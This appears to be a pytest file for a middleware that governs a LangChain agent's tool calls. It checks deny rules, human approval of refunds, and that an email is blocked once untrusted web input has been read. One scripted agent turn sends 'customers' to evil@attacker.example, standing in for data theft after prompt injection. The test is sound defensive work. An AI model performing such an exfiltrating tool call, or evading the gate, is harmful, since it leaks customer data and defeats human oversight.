"""ClearanceMiddleware in a real LangChain ``create_agent`` loop with a scripted chat model.

The model is a ``BaseChatModel`` subclass (LangChain's own model interface) that answers
with scripted ``AIMessage``s carrying tool calls; everything else is the framework's:
the agent graph, its ToolNode, middleware composition, the checkpointer and interrupts.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from pydantic import Field

from clearance._internal.gate.core import Gate
from clearance.integrations.langchain import ClearanceMiddleware

from .framework_support import (
    APPROVER,
    TASK,
    ToolEffects,
    decisions,
    executed,
    governed_gate,
    traces,
)


class ScriptedChatModel(BaseChatModel):
    """Answers each model call with the next scripted message; remembers what it was shown."""

    script: list[AIMessage]
    seen: list[list[BaseMessage]] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        self.seen.append(list(messages))
        return ChatResult(generations=[ChatGeneration(message=self.script.pop(0))])

    def bind_tools(self, tools: Any, **kwargs: Any) -> ScriptedChatModel:
        return self


def calls(*calls: tuple[str, dict[str, Any]]) -> AIMessage:
    """An assistant turn asking for ``calls`` (name, args), with stable ids."""
    return AIMessage(
        content="",
        tool_calls=[
            {"name": name, "args": args, "id": f"call-{name}-{i}", "type": "tool_call"}
            for i, (name, args) in enumerate(calls)
        ],
    )


DONE = AIMessage(content="done")


class Effects(ToolEffects):
    """The scenario's tools as LangChain tools."""

    def tools(self) -> list[Any]:
        return [tool(function) for function in self.functions()]


@pytest.fixture
def gate(tmp_path: Path) -> Iterator[Gate]:
    yield from governed_gate(tmp_path)


def agent(gate: Gate, effects: Effects, model: ScriptedChatModel, **kwargs: Any) -> Any:
    return create_agent(
        model,
        effects.tools(),
        middleware=[ClearanceMiddleware(gate)],
        checkpointer=InMemorySaver(),
        **kwargs,
    )


def tool_messages(result: dict[str, Any]) -> list[ToolMessage]:
    return [m for m in result["messages"] if isinstance(m, ToolMessage)]


THREAD = {"configurable": {"thread_id": "t1"}}


def test_an_allowed_tool_runs_governed_in_a_trace_whose_mandate_is_the_task(gate: Gate) -> None:
    effects = Effects()
    model = ScriptedChatModel(script=[calls(("lookup_order", {"order_id": 42})), DONE])
    result = agent(gate, effects, model).invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    assert effects.ran == [("lookup_order", {"order_id": 42})]
    assert tool_messages(result)[0].content == "order 42: arrived broken"
    assert decisions(gate) == [("lookup_order", "allow")]
    assert len(executed(gate)) == 1
    [trace] = traces(gate)
    assert trace["mandate"]["text"] == TASK


def test_a_denied_tool_never_runs_and_the_model_reads_the_reasons(gate: Gate) -> None:
    effects = Effects()
    model = ScriptedChatModel(script=[calls(("delete_records", {"table": "orders"})), DONE])
    result = agent(gate, effects, model).invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    assert effects.ran == []
    assert decisions(gate) == [("delete_records", "deny")]
    assert executed(gate) == []
    [refused] = tool_messages(result)
    assert refused.status == "error"
    # The model's next turn was shown the refusal with the rule id and its message.
    shown = [m for m in model.seen[-1] if isinstance(m, ToolMessage)]
    assert "no-deletes" in str(shown[0].content)
    assert "Agents never delete records" in str(shown[0].content)


def test_an_untrusted_page_taints_the_trace_and_blocks_a_later_mail(gate: Gate) -> None:
    effects = Effects()
    model = ScriptedChatModel(
        script=[
            calls(("send_email", {"to": "dana@example.com", "body": "hello"})),
            calls(("fetch_page", {"url": "https://shop.example/faq"})),
            calls(("send_email", {"to": "evil@attacker.example", "body": "customers"})),
            DONE,
        ]
    )
    result = agent(gate, effects, model).invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    assert [name for name, _ in effects.ran] == ["send_email", "fetch_page"]
    assert decisions(gate) == [
        ("send_email", "allow"),
        ("fetch_page", "allow"),
        ("send_email", "deny"),
    ]
    assert "no-mail-after-untrusted-input" in str(tool_messages(result)[-1].content)


def test_an_approval_interrupts_and_resuming_after_approval_runs_the_tool_once(
    gate: Gate,
) -> None:
    effects = Effects()
    model = ScriptedChatModel(script=[calls(("refund", {"order_id": 42, "amount": 30.0})), DONE])
    graph = agent(gate, effects, model)
    first = graph.invoke({"messages": [HumanMessage(TASK)]}, THREAD)

    [pending] = first["__interrupt__"]
    approval_id = pending.value["clearance_approval_id"]
    assert pending.value["tool"] == "refund"
    assert effects.ran == []
    # Resuming before anyone decided interrupts again, still without running the tool.
    again = graph.invoke(Command(resume="check"), THREAD)
    assert again["__interrupt__"][0].value["clearance_approval_id"] == approval_id
    assert effects.ran == []

    gate.approve(approval_id, approver=APPROVER, reason="broken on arrival, photo attached")
    result = graph.invoke(Command(resume="approved"), THREAD)

    assert effects.ran == [("refund", {"order_id": 42, "amount": 30.0})]
    assert tool_messages(result)[-1].content == "refunded 30.0"
    assert decisions(gate) == [("refund", "approval_required")]
    assert len(executed(gate)) == 1
    assert gate.approval(approval_id).status == "collected"


def test_a_denied_approval_never_runs_the_tool_and_tells_the_model(gate: Gate) -> None:
    effects = Effects()
    model = ScriptedChatModel(script=[calls(("refund", {"order_id": 42, "amount": 30.0})), DONE])
    graph = agent(gate, effects, model)
    first = graph.invoke({"messages": [HumanMessage(TASK)]}, THREAD)
    approval_id = first["__interrupt__"][0].value["clearance_approval_id"]

    gate.deny(approval_id, approver=APPROVER, reason="no photo")
    result = graph.invoke(Command(resume="denied"), THREAD)

    assert effects.ran == []
    assert executed(gate) == []
    [refused] = tool_messages(result)
    assert refused.status == "error"
    assert "refund" in str(refused.content)


def test_the_async_loop_is_governed_the_same_way(gate: Gate) -> None:
    effects = Effects()
    model = ScriptedChatModel(
        script=[
            calls(("lookup_order", {"order_id": 42}), ("delete_records", {"table": "orders"})),
            DONE,
        ]
    )
    graph = agent(gate, effects, model)
    result = asyncio.run(graph.ainvoke({"messages": [HumanMessage(TASK)]}, THREAD))

    assert effects.ran == [("lookup_order", {"order_id": 42})]
    assert sorted(decisions(gate)) == [("delete_records", "deny"), ("lookup_order", "allow")]
    assert len(executed(gate)) == 1
    by_tool = {m.name: m for m in tool_messages(result)}
    assert "no-deletes" in str(by_tool["delete_records"].content)
